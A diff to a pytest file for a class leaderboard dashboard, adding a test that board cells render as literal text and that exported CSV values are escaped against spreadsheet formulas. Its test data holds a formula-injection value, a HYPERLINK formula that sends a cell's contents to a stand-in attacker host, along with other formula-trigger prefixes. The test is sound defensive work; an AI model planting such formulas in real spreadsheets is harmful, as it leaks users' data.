@@ -9,6 +9,7 @@ import json
 import threading
 
 import numpy as np
+import pandas as pd
 import pytest
 
 from dashboard import challenge as store
@@ -322,6 +323,22 @@ def test_a_larger_share_or_a_filtered_copy_is_refused_by_its_ratings(home, timed
         raise DataError("its file is gone")
 
     check(filtered, "temporal:0.3", whole=gone)  # a challenge nobody can load holds nothing back
+
+
+def test_board_cells_are_literal_text_and_the_csv_holds_no_formula():
+    """probe6's findings 2 and 9: `st.table` renders cells as Markdown (``www.`` names became live links on
+    every classmate's board), and the teacher's CSV kept a run named ``=HYPERLINK(...)`` as a formula."""
+    frame = pd.DataFrame({"name": ["www.class-login.example", "a __b__", "Ada"], "score": [0.9, -0.5, 1.0],
+                          "settings": ["als: n_factors 8", "b", "c"]})  # fmt: skip
+    cells = store.as_markdown_cells(frame)
+    assert list(cells["name"]) == ["`www.class-login.example`", "`a __b__`", "`Ada`"]  # code: never a link
+    assert list(cells["score"]) == [0.9, -0.5, 1.0]
+    assert cells["settings"][0] == r"als\: n\_factors 8"
+    runs = pd.DataFrame({"run": ['=HYPERLINK("https://evil.example/?"&B2,"Open")', "+1", "-x", "@SUM(A1)",
+                                 "\tx", "ALS 64", "a=b"], "public": [0.1, -0.2, 0.3, 0.4, 0.5, 0.6, 0.7]})  # fmt: skip
+    safe = store.spreadsheet_safe(runs)
+    assert list(safe["run"]) == ["'" + runs["run"][0], "'+1", "'-x", "'@SUM(A1)", "'\tx", "ALS 64", "a=b"]
+    assert list(safe["public"]) == list(runs["public"])  # a negative score stays a number
 
 
 def test_cached_models_tested_on_held_out_ratings_are_not_listed(home, timed):
